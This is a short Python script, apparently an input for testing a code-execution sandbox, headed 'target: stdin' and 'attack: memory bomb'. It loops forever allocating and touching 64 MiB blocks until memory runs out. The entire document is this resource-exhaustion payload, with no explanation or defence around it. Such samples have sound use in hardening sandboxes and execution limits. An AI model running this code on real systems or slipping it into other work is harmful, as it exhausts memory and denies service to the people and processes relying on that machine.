# target: stdin
# attack: memory bomb: allocate and touch memory until something gives
blocks = []
while True:
    blocks.append(bytearray(64 << 20))
